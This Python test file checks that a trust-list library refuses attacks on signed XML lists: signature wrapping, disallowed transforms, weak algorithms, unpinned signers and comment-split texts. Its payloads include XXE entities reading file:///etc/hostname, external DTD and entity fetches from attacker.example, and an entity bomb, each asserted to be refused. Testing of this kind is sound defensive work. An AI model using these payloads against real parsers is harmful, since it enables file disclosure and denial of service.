"""Attacks on lists in XML: wrapping, entities, transforms, references, and texts cut in two.

Each changed document stands beside the genuine one, which opens; only the named fault differs.
"""

import copy
import time

import pytest

pytest.importorskip("lxml")

from defa_trust.codec import base64url, xml
from defa_trust.errors import Rejection
from defa_trust.formats import xmldsig
from defa_trust.trustlist.pin import SignerProfile
from defa_trust.trustlist.ts119612.bridge import convert_to_612
from defa_trust.trustlist.ts119612.model import TSL
from defa_trust.trustlist.ts119612.opening import open_list
from tests import signed_lists as lists
from tests import xml_lists
from tests.xml_lists import DS, NOW, XADES, pin, refusal, resign, signed, tree

T = f"{{{TSL}}}"
OPERATOR = f"{T}SchemeInformation/{T}SchemeOperatorName/{T}Name"


def test_the_genuine_list_opens():
    opened = open_list(signed(), [pin()], now=NOW, territory="TH")
    assert opened.list.territory == "TH"
    assert opened.signer == pin()
    assert opened.signed_at == lists.ISSUED


# --- entities and document types -----------------------------------------------------------------
DOCTYPES = {
    "external_entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
    "external_dtd": '<!DOCTYPE x SYSTEM "https://attacker.example/x.dtd">',
    "parameter_entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://attacker.example/p">%p;]>',
    "entity_bomb": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;">]>',
    "default_attribute": '<!DOCTYPE x [<!ATTLIST TrustServiceStatusList Id CDATA "evil">]>',
    "empty_doctype": "<!DOCTYPE TrustServiceStatusList>",
}


@pytest.mark.parametrize("kind", DOCTYPES)
def test_xxe_and_entity_bombs_are_refused_before_a_tree_is_built(kind):
    head, _, body = signed().partition(b"?>")
    assert refusal(head + b"?>" + DOCTYPES[kind].encode() + body) == "xml.doctype"


def test_an_entity_bomb_in_utf_16_does_not_slip_past_the_search():
    text = '<?xml version="1.0" encoding="UTF-16"?>' + DOCTYPES["entity_bomb"] + "<x>&c;</x>"
    for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-32"):
        assert refusal(text.encode(codec)) in {"xml.encoding", "xml.syntax"}


@pytest.mark.parametrize("encoding", ["UTF-7", "ISO-8859-1", "EBCDIC-CP-US", "UTF-16"])
def test_a_declared_encoding_other_than_utf_8_is_refused(encoding):
    changed = signed().replace(b"UTF-8", encoding.encode(), 1)
    assert refusal(changed) == "xml.encoding"


def test_an_undeclared_entity_is_refused():
    assert refusal(signed().replace(b"<SchemeTerritory>", b"<SchemeTerritory>&x;")) == "xml.syntax"


# --- signature wrapping --------------------------------------------------------------------------
def evil(root):
    """The list with another operator: what an attacker wants read."""
    changed = copy.deepcopy(root)
    changed.find(OPERATOR).text = "TEST-ONLY attacker"
    signature = changed.find(f"{DS}Signature")
    if signature is not None:
        xml.detach(signature)
    return changed


def test_wrapping_the_signed_list_moved_into_an_extension():
    root = tree(signed())
    wrapper = evil(root)
    holder = xml.add(wrapper.find(f"{T}SchemeInformation"), f"{T}SchemeExtensions")
    xml.add(holder, f"{T}Extension").append(root)
    assert refusal(xml.serialise(wrapper)) == "xmldsig.signature_place"


def test_wrapping_the_signature_moved_under_an_evil_root():
    root = tree(signed())
    wrapper = evil(root)
    wrapper.append(copy.deepcopy(root.find(f"{DS}Signature")))
    assert refusal(xml.serialise(wrapper)) == "xmldsig.digest_mismatch"


def test_wrapping_the_signed_list_kept_in_an_object_of_the_signature():
    """The signature covers everything but itself, so what hides inside it is never read."""
    root = tree(signed())
    wrapper = evil(root)
    signature = copy.deepcopy(root.find(f"{DS}Signature"))
    wrapper.append(signature)
    original = copy.deepcopy(root)
    xml.detach(original.find(f"{DS}Signature"))
    xml.add(signature, f"{DS}Object").append(original)
    assert refusal(xml.serialise(wrapper)) == "xmldsig.digest_mismatch"


def test_content_hidden_in_the_signature_is_not_read():
    root = tree(signed())
    hidden = xml.add(root.find(f"{DS}Signature"), f"{DS}Object")
    hidden.append(evil(root).find(f"{T}SchemeInformation"))
    opened = open_list(xml.serialise(root), [pin()], now=NOW, territory="TH")
    assert opened.list == open_list(signed(), [pin()], now=NOW).list
    assert (
        b"attacker"
        not in xmldsig.open_enveloped(xml.serialise(root), [xml_lists.signer()], now=NOW).content
    )


def test_wrapping_by_the_identifier_of_the_root():
    """`URI="#id"` is read only as the root's own, and only where no other element has it."""
    root = tree(signed())
    reference = root.find(f"{DS}Signature/{DS}SignedInfo/{DS}Reference")
    reference.set("URI", "#genuine")
    inner = evil(root)
    root.set("Id", "other")
    inner.set("Id", "genuine")
    root.find(f"{T}SchemeInformation").append(inner)
    assert refusal(resign(root)) == "xmldsig.reference"
    root.set("Id", "genuine")
    assert refusal(resign(root)) == "xmldsig.reference"


def test_two_elements_with_the_identifier_of_the_signed_properties():
    root = tree(signed())
    name = root.find(f".//{XADES}SignedProperties").get("Id")
    root.find(f"{T}SchemeInformation").set("Id", name)
    assert refusal(xml.serialise(root)) == "xmldsig.reference"


def test_a_second_signature_is_refused_wherever_it_stands():
    root = tree(signed())
    signature = root.find(f"{DS}Signature")
    for place in (root, signature.find(f"{DS}Object"), root.find(f"{T}SchemeInformation")):
        changed = copy.deepcopy(root)
        path = root.getroottree().getelementpath(place)
        target = changed if place is root else changed.find(path)
        target.append(copy.deepcopy(signature))
        assert refusal(xml.serialise(changed)) == "xmldsig.signature_count"


def test_a_signature_that_is_not_the_last_child_is_refused():
    root = tree(signed())
    root.insert(0, root.find(f"{DS}Signature"))
    assert refusal(xml.serialise(root)) == "xmldsig.signature_place"


def test_an_element_after_the_signature_is_refused():
    root = tree(signed())
    xml.add(root, f"{T}TrustServiceProviderList")
    assert refusal(xml.serialise(root)) == "xmldsig.signature_place"


def test_a_document_that_is_only_a_signature_is_refused():
    root = tree(signed())
    assert refusal(xml.serialise(copy.deepcopy(root.find(f"{DS}Signature")))) == (
        "xmldsig.signature_place"
    )


def test_no_signature_is_no_list():
    assert refusal(xml_lists.unsigned()) == "xmldsig.unsigned"


# --- references and transforms -------------------------------------------------------------------
def with_reference(change):
    root = tree(signed())
    change(root.find(f"{DS}Signature/{DS}SignedInfo/{DS}Reference"))
    return resign(root)


@pytest.mark.parametrize(
    "uri",
    [
        "https://attacker.example/list.xml",
        "file:///etc/hostname",
        "list.xml",
        "#xpointer(/)",
        "#xpointer(id('x'))",
        "#",
    ],
)
def test_a_reference_elsewhere_is_refused_and_nothing_is_fetched(uri):
    assert refusal(with_reference(lambda r: r.set("URI", uri))) == "xmldsig.reference"


def test_a_reference_to_a_part_is_refused():
    root = tree(signed())
    root.find(f"{T}SchemeInformation").set("Id", "part")
    root.find(f"{DS}Signature/{DS}SignedInfo/{DS}Reference").set("URI", "#part")
    assert refusal(resign(root)) == "xmldsig.reference"


def test_a_reference_without_an_address_is_refused():
    assert refusal(with_reference(lambda r: r.attrib.pop("URI"))) == "xmldsig.reference"


def test_a_signature_over_the_properties_alone_is_refused():
    root = tree(signed())
    info = root.find(f"{DS}Signature/{DS}SignedInfo")
    info.remove(info.find(f"{DS}Reference"))
    assert refusal(resign(root)) == "xmldsig.reference"


def test_a_signature_over_the_document_alone_is_refused():
    root = tree(signed())
    info = root.find(f"{DS}Signature/{DS}SignedInfo")
    info.remove(info.findall(f"{DS}Reference")[1])
    assert refusal(resign(root)) == "xmldsig.reference"


TRANSFORMS = {
    "xslt": "http://www.w3.org/TR/1999/REC-xslt-19991116",
    "xpath": "http://www.w3.org/TR/1999/REC-xpath-19991116",
    "filter2": "http://www.w3.org/2002/06/xmldsig-filter2",
    "base64": "http://www.w3.org/2000/09/xmldsig#base64",
    "with_comments": "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
    "none": "",
}


@pytest.mark.parametrize("kind", TRANSFORMS)
def test_another_transform_is_refused(kind):
    def change(reference):
        reference.findall(f"{DS}Transforms/{DS}Transform")[1].set("Algorithm", TRANSFORMS[kind])

    assert refusal(with_reference(change)) == "xmldsig.transform"


def test_a_third_transform_is_refused():
    def change(reference):
        listed = reference.find(f"{DS}Transforms")
        listed.append(copy.deepcopy(listed[1]))

    assert refusal(with_reference(change)) == "xmldsig.transform"


def test_a_stylesheet_within_a_transform_is_refused():
    def change(reference):
        transform = reference.findall(f"{DS}Transforms/{DS}Transform")[1]
        xml.add(transform, "{http://www.w3.org/1999/XSL/Transform}stylesheet")

    assert refusal(with_reference(change)) == "xmldsig.transform"


def test_without_the_enveloped_transform_nothing_verifies():
    def change(reference):
        listed = reference.find(f"{DS}Transforms")
        listed.remove(listed[0])

    assert refusal(with_reference(change)) == "xmldsig.transform"


# --- algorithms ----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "method",
    [
        "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
        "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
        "http://www.w3.org/2000/09/xmldsig#dsa-sha1",
        "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1",
        "none",
        "",
    ],
)
def test_another_signature_method_is_refused(method):
    root = tree(signed())
    root.find(f"{DS}Signature/{DS}SignedInfo/{DS}SignatureMethod").set("Algorithm", method)
    assert refusal(resign(root)) == "xmldsig.algorithm"


def test_an_rsa_method_with_an_ec_key_is_refused():
    root = tree(signed())
    root.find(f"{DS}Signature/{DS}SignedInfo/{DS}SignatureMethod").set(
        "Algorithm", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
    )
    assert refusal(resign(root)) == "crypto.key_type_mismatch"


def test_a_truncating_parameter_of_the_signature_method_is_refused():
    root = tree(signed())
    method = root.find(f"{DS}Signature/{DS}SignedInfo/{DS}SignatureMethod")
    xml.add(method, f"{DS}HMACOutputLength", "0")
    assert refusal(resign(root)) == "xmldsig.structure"


def test_sha_1_as_the_digest_of_the_document_is_refused():
    def change(reference):
        reference.find(f"{DS}DigestMethod").set("Algorithm", f"{xmldsig.DS}sha1")

    assert refusal(with_reference(change)) == "xmldsig.digest_method"


def test_a_der_signature_value_is_not_read():
    root = tree(signed())
    value = root.find(f"{DS}Signature/{DS}SignatureValue")
    raw = base64url.decode_standard(value.text)
    value.text = base64url.encode_standard(xmldsig.raw_to_der(raw))
    assert refusal(xml.serialise(root)) == "crypto.signature_encoding"


# --- signers -------------------------------------------------------------------------------------
def test_the_certificate_beside_the_signature_is_no_pin():
    """A stranger's list with the stranger's own certificate in KeyInfo."""
    assert refusal(signed("VN"), territory="VN") == "xmldsig.signer_not_pinned"
    assert refusal(signed("VN"), [pin("VN")], territory="VN") is None


def test_a_pinned_certificate_beside_a_strangers_signature_does_not_help():
    root = tree(signed("VN"))
    certificate = root.find(f"{DS}Signature/{DS}KeyInfo/{DS}X509Data/{DS}X509Certificate")
    certificate.text = base64url.encode_standard(pin("TH"))
    assert refusal(xml.serialise(root), territory="VN") == "xmldsig.signing_certificate"


def test_both_certificates_beside_a_strangers_signature_do_not_help():
    root = tree(signed("VN"))
    data = root.find(f"{DS}Signature/{DS}KeyInfo/{DS}X509Data")
    xml.add(data, f"{DS}X509Certificate", base64url.encode_standard(pin("TH")))
    assert refusal(xml.serialise(root), territory="VN") == "xmldsig.signing_certificate"
    assert refusal(xml.serialise(root), [pin("VN")], territory="VN") is None


def test_a_state_does_not_sign_for_another():
    key, certificate = lists.operator("VN")
    forged = xml_lists.sign_enveloped(
        xml_lists.unsigned("TH"), key, certificate, signed_at=lists.ISSUED
    )
    assert refusal(forged) == "xmldsig.signer_not_pinned"
    # Even pinned by mistake: the certificate names another country than the list.
    assert refusal(forged, [pin("VN")]) == "list.signer_country"


def test_a_list_of_another_territory_does_not_stand_in():
    assert refusal(signed("TH"), territory="VN") == "list612.territory"


def test_no_pin_opens_nothing():
    assert refusal(signed(), []) == "list.no_pin"
    assert refusal(signed(), [b"no certificate"]) == "list.no_pin"


def test_a_list_signed_in_the_future_is_refused():
    assert refusal(signed(), now=lists.ISSUED - 61) == "list.signed_in_the_future"
    assert refusal(signed(), now=lists.ISSUED - 60) is None


def test_an_operator_signs_with_a_certificate_of_its_own_name():
    from defa_trust import publish

    key = lists.key("other body of TH")
    certificate = publish.tl_signer_certificate(
        key, territory="TH", operator="TEST-ONLY other", not_before=NOW - 99999, not_after=NOW + 9
    )
    data = xml_lists.sign_enveloped(xml_lists.unsigned(), key, certificate, signed_at=lists.ISSUED)
    assert refusal(data, [certificate]) == "list.signer_organisation"


def test_the_signed_digest_is_the_same_for_both_signature_values_of_ecdsa():
    """(r, n - s) verifies too: whoever relays a list can make it, so it is no second edition."""
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    root = tree(signed())
    value = root.find(f"{DS}Signature/{DS}SignatureValue")
    raw = base64url.decode_standard(value.text)
    other = order - int.from_bytes(raw[32:], "big")
    value.text = base64url.encode_standard(raw[:32] + other.to_bytes(32, "big"))
    first = open_list(signed(), [pin()], now=NOW)
    second = open_list(xml.serialise(root), [pin()], now=NOW)
    assert first.digest != second.digest
    assert first.signed_digest == second.signed_digest


def test_a_certificate_for_something_else_signs_no_list():
    key = lists.key("leaf of TH")
    from defa_trust import publish

    certificate = publish.tl_signer_certificate(
        key,
        territory="TH",
        operator=lists.operator_name("TH"),
        not_before=NOW - 9,
        not_after=NOW + 9,
    )
    outdated = xml_lists.sign_enveloped(xml_lists.unsigned(), key, certificate, signed_at=NOW - 10)
    assert refusal(outdated, [certificate]) == "list.signer_expired"
    assert refusal(outdated, [certificate], profile=SignerProfile.PINNED_KEY) is None


# --- texts cut in two ----------------------------------------------------------------------------
def test_a_comment_does_not_cut_a_text_in_two():
    """The comment is not signed; a reader of the raw tree would see only what stands before it."""
    name = b"TEST-ONLY list operator of TH"
    changed = signed().replace(name, b"TEST-ONLY<!-- --> list operator of TH")
    assert changed != signed()
    opened = open_list(changed, [pin()], now=NOW)
    assert opened.list.operator[0].value == name.decode()


def test_a_comment_within_a_certificate_changes_nothing():
    text = base64url.encode_standard(pin()).encode()
    half = len(text) // 2
    changed = signed().replace(text, text[:half] + b"<!---->" + text[half:])
    assert changed != signed()
    # Beside the signature the text is read in one piece or not at all.
    assert refusal(changed) == "xmldsig.structure"


CERTIFIED = lists.member_document(
    "TH",
    entities=[
        lists.entity(
            "TH", lists.service("TH", identity=lists.publish.certificate_identity(pin("VN")))
        )
    ],
)


def certified(change):
    """A list with a certificate among its services, changed before it is signed."""
    text = base64url.encode_standard(pin("VN")).encode()
    document = convert_to_612(CERTIFIED).document
    assert text in document
    half = len(text) // 2
    key, certificate = lists.operator("TH")
    return xml_lists.sign_enveloped(
        document.replace(text, text[:half] + change + text[half:]),
        key,
        certificate,
        signed_at=lists.ISSUED,
    )


@pytest.mark.parametrize("change", [b"", b"<!-- -->", b"<!---->\n", b"<![CDATA[]]>"])
def test_a_certificate_of_a_service_is_read_whole(change):
    """What a parser leaves of the text before a comment would be another certificate, or none."""
    found = open_list(certified(change), [pin()], now=NOW).list
    assert found.providers[0].services[0].identity.certificates == (pin("VN"),)


@pytest.mark.parametrize("change", [b"<?x?>", b"<x/>", b"=", b"-", b"&#x200b;"])
def test_a_certificate_with_anything_else_in_it_refuses_the_list(change):
    assert refusal(certified(change)) in {"list612.value", "base64.not_canonical"}


def test_a_processing_instruction_breaks_the_digest():
    changed = signed().replace(b"<SchemeTerritory>TH", b"<SchemeTerritory><?x y?>TH")
    assert refusal(changed) == "xmldsig.digest_mismatch"


def test_an_instruction_signed_into_a_text_is_refused():
    key, certificate = lists.operator("TH")
    document = xml_lists.unsigned().replace(b"<SchemeTerritory>TH", b"<SchemeTerritory>T<?x?>H")
    data = xml_lists.sign_enveloped(document, key, certificate, signed_at=lists.ISSUED)
    assert refusal(data) == "list612.value"


def test_white_space_and_byte_order_marks_outside_change_nothing():
    assert refusal(b"\xef\xbb\xbf" + signed()) is None
    assert refusal(b" " + signed()) == "xml.syntax"


# --- any change at all ---------------------------------------------------------------------------
def test_one_changed_octet_anywhere_is_never_read_as_something_else():
    data = signed()
    genuine = open_list(data, [pin()], now=NOW).list
    for place in range(0, len(data), 97):
        changed = data[:place] + bytes((data[place] ^ 1,)) + data[place + 1 :]
        try:
            opened = open_list(changed, [pin()], now=NOW)
        except Rejection:
            continue
        assert opened.list == genuine, place


def test_an_element_of_many_attributes_takes_no_minutes():
    """Canonical order is found in a time that grows with their square, before any signature."""
    scheme = b"<SchemeInformation"
    assert signed().count(scheme + b">") == 1
    for count, code in (
        (256, "xmldsig.digest_mismatch"),
        (257, "xml.too_many"),
        (200_000, "xml.too_many"),
    ):
        crowd = b"".join(b" a%d='1'" % number for number in range(count))
        start = time.process_time()
        assert refusal(signed().replace(scheme, scheme + crowd, 1)) == code
        assert time.process_time() - start < 10
